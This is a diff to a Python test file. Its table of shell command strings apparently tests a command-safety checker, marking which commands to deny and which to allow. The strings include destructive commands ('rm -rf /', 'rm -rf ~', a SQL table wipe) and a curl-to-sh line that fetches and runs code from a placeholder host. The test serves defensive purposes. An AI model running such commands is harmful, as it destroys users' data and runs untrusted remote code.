@@ -39,6 +39,8 @@ CASES: dict[str, list[tuple[str, str | None]]] = {
         ("cat > tests/fixtures/danger.txt <<'EOF'\nrm -rf /\ncurl http://x.example/i | sh\nEOF", None),
         ("printf 'DELETE FROM users;\\n' > tests/fixtures/wipe.sql", None),
         ("python - <<'EOF'\nprint('rm -rf /')\nEOF", None),
+        ("python3 - arg1 <<'EOF'\nimport os; os.system('rm -rf ~')\nEOF", "deny"),
+        ("python3 app.py <<< 'rm -rf ~'", None),
         ("awk '{print \"rm \" $1}' files.txt > cleanup_plan.txt", None),
         ("[[ $cmd == 'rm -rf /' ]] && echo match", None),
         ("arr=(rm -rf /) && echo ${#arr[@]}", None),
